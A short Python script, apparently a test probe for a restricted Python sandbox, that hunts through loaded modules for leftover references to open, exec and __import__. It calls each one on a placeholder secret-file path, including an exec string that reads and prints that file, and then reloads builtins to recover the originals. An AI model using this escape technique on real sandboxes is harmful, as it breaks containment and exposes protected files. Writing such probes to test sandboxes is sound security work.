# Looks for an original of open, exec and __import__ that somebody still holds.
import builtins
import sys

print("ATTEMPTED")
found = []
for module in list(sys.modules.values()):
    for name, value in list(vars(module).items()):
        text = str(value)
        if "built-in function open" in text or "built-in function exec" in text or "built-in function __import__" in text or "FileIO" in text:
            found.append(value)
for value in found:
    for arguments in (("@SECRET_PATH@",), ("print(open('@SECRET_PATH@').read())",), ("posix",)):
        try:
            got = value(*arguments)
            print(got, getattr(got, "read", str)())
            reach(got)
        except Exception:
            pass
import importlib

importlib.reload(builtins)
reach(vars(builtins))
